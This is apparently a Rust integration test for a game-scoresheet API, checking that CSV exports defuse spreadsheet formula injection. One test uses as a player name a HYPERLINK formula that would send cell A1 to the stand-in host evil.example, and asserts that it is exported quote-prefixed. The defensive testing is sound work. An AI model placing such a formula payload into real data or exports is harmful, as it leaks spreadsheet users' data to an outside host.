//! Records anyone can write: exports that cannot run formulas, names that are identities,
//! retries that store nothing twice, and sheets that cannot grow without bound.

use reqwest::StatusCode;
use serde_json::{json, Value};

use crate::support::{owner_token, spawn_app, Reply, TestApp};

async fn create_sheet(app: &TestApp, names: &[&str]) -> Reply {
    let players: Vec<Value> = names.iter().map(|n| json!({ "name": n })).collect();
    app.post(
        "/v1/sheets",
        &json!({"game": "lucky-jack", "players": players, "options": {"rounds": 3}}),
        None,
    )
    .await
}

/// A three-round Lucky Jack sheet for these players: its id and owner token.
async fn new_sheet(app: &TestApp, names: &[&str]) -> (String, String) {
    let reply = create_sheet(app, names).await;
    assert_eq!(reply.status, StatusCode::CREATED, "{}", reply.body);
    (
        reply.body["sheet"]["id"].as_str().unwrap().to_owned(),
        owner_token(&reply.body),
    )
}

async fn enter(app: &TestApp, id: &str, token: &str, body: Value) -> Reply {
    app.post(&format!("/v1/sheets/{id}/entries"), &body, Some(token))
        .await
}

/// Plays a sheet to its end, seat 0 winning round 1.
async fn finish(app: &TestApp, id: &str, token: &str) {
    let jackpot = json!({"tally": {"jackpot": {"seat": 0, "symbol": "bell", "size": 3}}});
    let nothing = json!({"tally": {"jackpot": null}});
    for body in [jackpot, nothing.clone(), nothing] {
        let reply = enter(app, id, token, body).await;
        assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    }
}

#[tokio::test]
async fn a_csv_export_never_starts_a_typed_cell_with_a_formula_character() {
    let app = spawn_app().await;
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    let (id, token) = new_sheet(&app, &[evil, "-Ben", "@Cleo"]).await;
    finish(&app, &id, &token).await;
    let reply = app
        .send(
            app.client
                .get(format!("{}/v1/players/-Ben/history", app.base))
                .query(&[("format", "csv")]),
        )
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    let text = reply.body.as_str().unwrap();
    let row = text.lines().nth(1).unwrap();
    assert!(
        row.contains(",\"'-Ben\","),
        "the player's own cell is quoted and prefixed with a single quote: {row}"
    );
    assert!(
        row.contains(
            ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\"); -Ben; @Cleo\","
        ),
        "the players cell starts with the neutralised name: {row}"
    );
    assert!(
        row.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"\r")
            || row.ends_with(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""),
        "so is the winners cell: {row}"
    );
    // Our own numbers stay numbers: Ben's score, rank and result are bare.
    assert!(row.contains(",\"'-Ben\",0,2,false,"), "{row}");
}
